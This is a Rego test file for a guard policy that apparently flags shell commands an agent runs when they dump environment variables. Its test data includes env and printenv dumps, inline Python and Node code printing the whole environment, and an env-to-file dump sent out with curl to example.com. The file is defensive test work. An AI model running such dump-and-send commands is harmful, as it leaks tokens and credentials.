package toolgate.rules.guard.environment_test

import rego.v1

import data.toolgate.rules.guard.environment

cmd(id, name, flags, operands) := {
	"id": id, "name": name, "path": null, "argv": array.concat([name], operands), "args": operands, "flags": flags,
	"operands": operands, "dynamic_name": false, "wrappers": [], "assignments": {}, "depth": 0, "via": "script",
	"parent": null, "redirects": [], "pipeline": null, "pipe_index": 0, "background": false, "paths": [], "urls": [],
	"inline_code": null, "env_vars": [],
}

bash(commands) := {"kind": "bash", "commands": commands, "names": [c.name | some c in commands], "flows": [], "pipelines": [], "indeterminate": [], "signals": [], "secrets": [], "effects": []}

rules(facts, context) := r if {
	r := {f.rule | some f in environment.findings} with input as {"facts": facts, "context": context}
}

test_bare_dumps_ask if {
	every c in [cmd(0, "env", [], []), cmd(0, "printenv", [], []), cmd(0, "set", [], []), cmd(0, "export", ["p"], []), cmd(0, "declare", ["x"], [])] {
		"guard.environment.dump" in rules(bash([c]), {})
	}
}

test_named_or_settings_are_not_dumps if {
	every c in [cmd(0, "printenv", [], ["HOME"]), cmd(0, "set", ["e", "u"], []), cmd(0, "declare", ["f"], []), cmd(0, "export", [], ["A=1"])] {
		not "guard.environment.dump" in rules(bash([c]), {})
	}
}

test_code_dumps if {
	python := object.union(cmd(0, "python3", ["c"], []), {"inline_code": {"language": "python", "code": "import os\nprint(os.environ)", "imports": [], "calls": [], "urls": [], "paths": []}})
	node := object.union(cmd(0, "node", ["e"], []), {"inline_code": {"language": "javascript", "code": "console.log(JSON.stringify(process.env))", "imports": [], "calls": [], "urls": [], "paths": []}})
	named := object.union(cmd(0, "python3", ["c"], []), {"inline_code": {"language": "python", "code": "print(os.environ['HOME'])", "imports": [], "calls": [], "urls": [], "paths": []}})
	"guard.environment.dump" in rules(bash([python]), {})
	"guard.environment.dump" in rules(bash([node]), {})
	not "guard.environment.dump" in rules(bash([named]), {})
}

test_adapter_says_no_token_in_environment if {
	not "guard.environment.dump" in rules(bash([cmd(0, "env", [], [])]), {"token_env": []})
	"guard.environment.dump" in rules(bash([cmd(0, "env", [], [])]), {"token_env": ["TOOLGATE_TOKEN"]})
}

test_dump_written_then_sent_denied if {
	dump := object.union(cmd(0, "env", [], []), {"redirects": [{"op": ">", "fd": null, "target": "/tmp/e", "path": {"path": "/tmp/e"}, "dynamic": false, "write": true}]})
	facts := object.union(bash([dump, cmd(1, "curl", ["F"], ["f=@/tmp/e", "https://example.com"])]), {"effects": [{"type": "send", "sink": "https://example.com", "sources": ["file:/tmp/e"]}]})
	"guard.environment.dump_sent" in rules(facts, {"token_env": []})
}

filter_call(pattern, flags) := [
	object.union(cmd(0, "printenv", [], []), {"pipeline": 0}),
	object.union(cmd(1, "grep", flags, [pattern]), {"pipeline": 0, "pipe_index": 1, "sources": [0]}),
]

test_filtered_dumps_are_not_dumps if {
	not "guard.environment.dump" in rules(bash(filter_call("NODE", [])), {})
	not "guard.environment.dump" in rules(bash(filter_call("^(NODE|NPM)_", ["E"])), {})
	"guard.environment.dump" in rules(bash(filter_call("TOKEN", [])), {})
	"guard.environment.dump" in rules(bash(filter_call("^(TOOL|NPM)", ["E"])), {})
	"guard.environment.dump" in rules(bash(filter_call("NODE", ["v"])), {})
	"guard.environment.dump" in rules(bash(filter_call("N.*", [])), {})
}
